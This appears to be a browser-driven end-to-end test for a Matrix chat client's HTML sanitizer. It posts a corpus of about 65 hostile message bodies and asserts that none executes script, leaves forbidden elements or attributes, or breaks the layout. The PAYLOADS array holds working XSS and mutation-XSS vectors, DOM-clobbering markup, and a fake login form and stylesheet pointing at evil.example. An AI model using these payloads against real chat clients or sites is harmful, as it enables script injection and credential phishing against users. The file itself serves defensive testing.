// Hostile message HTML: a corpus of XSS, mXSS, clobbering and layout-breaking
// payloads is sent as `formatted_body`. None may execute, none may leave a
// forbidden element or attribute in the page, and none may break the layout
// (at desktop and phone width).

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { launchBrowser, saveArtifacts, startServer } from './harness.mjs';

const WAIT = { timeout: 20_000 };

const deep = (n, inner) => '<div>'.repeat(n) + inner + '</div>'.repeat(n);

export const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg onload="window.__xss=3"></svg>',
  '<svg><script>window.__xss=4</script></svg>',
  '<iframe src="javascript:window.parent.__xss=5"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>',
  '<a href="javascript:window.__xss=7">js link</a>',
  '<a href="JaVaScRiPt:window.__xss=8">mixed case</a>',
  '<a href="java&#x09;script:window.__xss=9">tab in scheme</a>',
  '<a href="data:text/html,<script>alert(10)</script>">data link</a>',
  '<a href=" javascript:window.__xss=11">leading space</a>',
  '<b onclick="window.__xss=12" onmouseover="window.__xss=12">hover me</b>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:9999">overlay</div>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=16">',
  '<form action="https://evil.example"><input name=p type=password><button>Log in</button></form>',
  '<object data="javascript:window.__xss=18"></object>',
  '<embed src="javascript:window.__xss=19">',
  '<math><mi xlink:href="javascript:window.__xss=20">m</mi></math>',
  '<details open ontoggle="window.__xss=21"><summary>d</summary>x</details>',
  '<video><source onerror="window.__xss=22"></video>',
  '<audio src=x onerror="window.__xss=23">',
  '<body onload="window.__xss=24">body</body>',
  '<input autofocus onfocus="window.__xss=25">',
  '<select autofocus onfocus="window.__xss=26"></select>',
  '<textarea autofocus onfocus="window.__xss=27"></textarea>',
  '<marquee onstart="window.__xss=28">marquee</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=29>"></noscript>',
  '<template><script>window.__xss=30</script></template>',
  '<base href="javascript:/">',
  '<a href="vbscript:msgbox(32)">vb</a>',
  '<img src="javascript:window.__xss=33">',
  '<p style="background:url(javascript:window.__xss=34)">bg</p>',
  '<table><tr><td background="javascript:window.__xss=35">cell</td></tr></table>',
  '<!--<img src=x onerror=window.__xss=36>-->comment',
  '<![CDATA[<img src=x onerror=window.__xss=37>]]>',
  '<svg><a xlink:href="javascript:window.__xss=38"><text>svg link</text></a></svg>',
  '<a href="https://example.org" target="_self" onclick="window.__xss=39">ok link</a>',
  '<code class="language-x onload=window.__xss=40">c</code>',
  '<ol start="1 onmouseover=window.__xss=41"><li>o</li></ol>',
  '<font color="red;background:url(javascript:window.__xss=42)">f</font>',
  '<span data-mx-spoiler onmouseover="window.__xss=43">spoiler</span>',
  deep(300, 'deep'),
  `<pre>${'x'.repeat(5000)}</pre>`,
  `<p>${'W'.repeat(3000)}</p>`,
  `<table><tr>${'<td>cell</td>'.repeat(200)}</tr></table>`,
  '<h1 style="font-size:500px">huge</h1>',
  '<img src="mxc://evil/x" width="10000" height="10000" alt="big image">',
  '<a href="matrix:u/alice:example.org">matrix link</a>',
  '<mx-reply><blockquote><script>window.__xss=51</script></blockquote></mx-reply>answer',
  '<isindex action="javascript:window.__xss=52" type=image>',
  '<keygen autofocus onfocus="window.__xss=53">',
  '<frameset onload="window.__xss=54">',
  '<xss id=x tabindex=1 onfocus="window.__xss=55">custom</xss>',
  '<div id="composer-message">id clobbering</div>',
  '<a id="__xss" name="__xss">named anchor</a><form name="__xss"></form><img name="__xss">',
  '<p>unbalanced<b><i><u>tags',
  '<scr<script>ipt>window.__xss=59</script>',
  '"><img src=x onerror=window.__xss=60>',
  '<a href="https://example.org/" rel="opener">rel opener</a>',
  '<svg><style><img src=x onerror=window.__xss=62></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=63></style></mglyph></table></mtext></math>',
  '<a href="&#106;avascript:window.__xss=64">entity scheme</a>',
  '<div dir="rtl">\u202Ertl override</div>',
];

const ALLOWED_TAGS = new Set(['FONT', 'DEL', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'BLOCKQUOTE', 'P', 'A', 'UL',
  'OL', 'SUP', 'SUB', 'LI', 'B', 'I', 'U', 'STRONG', 'EM', 'S', 'STRIKE', 'CODE', 'HR', 'BR', 'DIV', 'TABLE',
  'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'CAPTION', 'PRE', 'SPAN', 'DETAILS', 'SUMMARY']);
const ALLOWED_ATTRS = new Set(['href', 'target', 'rel', 'start', 'class', 'color', 'data-mx-color',
  'data-mx-bg-color', 'data-mx-spoiler', 'colspan', 'rowspan']);

async function api(base, token, method, path, body) {
  const res = await fetch(`${base}/_matrix/client/v3${path}`, {
    method,
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  return [res.status, await res.json()];
}

async function registerApi(base, username) {
  const body = { username, password: 'correct horse battery' };
  const [, challenge] = await api(base, null, 'POST', '/register', body);
  const [status, ok] = await api(base, null, 'POST', '/register',
    { ...body, auth: { type: 'm.login.dummy', session: challenge.session } });
  assert.equal(status, 200, JSON.stringify(ok));
  return ok.access_token;
}

async function checkPage(page) {
  return page.evaluate(([allowedTags, allowedAttrs]) => {
    const problems = [];
    if (window.__xss !== undefined) problems.push(`window.__xss = ${String(window.__xss)}`);
    for (const el of document.querySelectorAll('.body.formatted *')) {
      if (!allowedTags.includes(el.tagName)) problems.push(`element <${el.tagName}>`);
      for (const attr of el.getAttributeNames()) {
        if (!allowedAttrs.includes(attr)) problems.push(`attribute ${attr} on <${el.tagName}>`);
      }
      if (el.tagName === 'A' && el.hasAttribute('href')) {
        if (!/^(https?:|mailto:|matrix:)/i.test(el.getAttribute('href'))) problems.push(`href ${el.getAttribute('href')}`);
        if (el.getAttribute('rel') !== 'noopener noreferrer') problems.push('link without noopener');
      }
    }
    const timeline = document.querySelector('[aria-label="Timeline"]');
    if (document.documentElement.scrollWidth > window.innerWidth + 1) problems.push('page scrolls sideways');
    if (timeline.scrollWidth > timeline.clientWidth + 1) problems.push('timeline scrolls sideways');
    const box = document.getElementById('composer-message').getBoundingClientRect();
    if (box.bottom > window.innerHeight + 1 || box.top < 0) problems.push('composer pushed out of view');
    const hit = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    if (hit?.id !== 'composer-message') problems.push(`composer covered by <${hit?.tagName}>`);
    if (document.querySelectorAll('#composer-message').length !== 1) problems.push('duplicate composer id');
    return problems;
  }, [[...ALLOWED_TAGS], [...ALLOWED_ATTRS]]);
}

test(`${PAYLOADS.length} hostile payloads: none executes, none breaks the layout`, async () => {
  const server = await startServer();
  const { browser, close } = await launchBrowser();
  const pages = {};
  try {
    const attacker = await registerApi(server.base, 'mallory');
    await registerApi(server.base, 'alice');
    const [, created] = await api(server.base, attacker, 'POST', '/createRoom',
      { name: 'Hostile', preset: 'public_chat', invite: ['@alice:localhost'] });
    const room = encodeURIComponent(created.room_id);
    for (const [i, html] of PAYLOADS.entries()) {
      const [status] = await api(server.base, attacker, 'PUT', `/rooms/${room}/send/m.room.message/p${i}`,
        { msgtype: 'm.text', body: `payload ${i + 1}`, format: 'org.matrix.custom.html', formatted_body: html });
      assert.equal(status, 200);
    }
    // Every payload is stored as sent (none refused or altered on the way in).
    const [, history] = await api(server.base, attacker, 'GET', `/rooms/${room}/messages?dir=b&limit=1000`);
    const stored = history.chunk.filter((e) => e.type === 'm.room.message').reverse();
    assert.deepEqual(stored.map((e) => e.content.formatted_body), PAYLOADS);

    const page = pages.alice = await (await browser.newContext()).newPage();
    const dialogs = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
    await page.goto(server.base);
    await page.getByRole('textbox', { name: 'Username' }).fill('alice');
    await page.getByRole('textbox', { name: 'Password', exact: true }).fill('correct horse battery');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('navigation', { name: 'Rooms' }).getByRole('button', { name: 'Join', exact: true }).click();
    const timeline = page.getByRole('region', { name: 'Timeline' });
    const start = page.getByText('This is the start of the room.');
    for (let round = 0; round < 40 && !(await start.isVisible()); round++) {
      await timeline.evaluate((el) => { el.scrollTop = -el.scrollHeight; });
      await page.waitForTimeout(150);
    }
    await start.waitFor(WAIT);
    await timeline.getByText('rel opener').waitFor(WAIT);
    // Each payload is its own message: none swallowed its neighbours or vanished.
    assert.equal(await timeline.locator('li.item.message').count(), PAYLOADS.length);

    // Give handlers every chance: hover, focus and click what is there.
    for (const text of ['hover me', 'spoiler', 'custom', 'named anchor']) {
      await timeline.getByText(text).first().hover().catch(() => {});
    }
    await page.keyboard.press('Tab');
    await page.waitForTimeout(300);

    assert.deepEqual(await checkPage(page), []);
    await page.setViewportSize({ width: 375, height: 700 });
    await page.waitForTimeout(200);
    assert.deepEqual(await checkPage(page), []);
    assert.deepEqual(dialogs, []);

    // The room still works.
    await page.getByRole('textbox', { name: 'Message' }).fill('still fine');
    await page.getByRole('textbox', { name: 'Message' }).press('Enter');
    await timeline.getByText('still fine').waitFor(WAIT);
  } catch (error) {
    await saveArtifacts('hostile', pages, server);
    throw error;
  } finally {
    await close();
    await server.stop();
  }
});
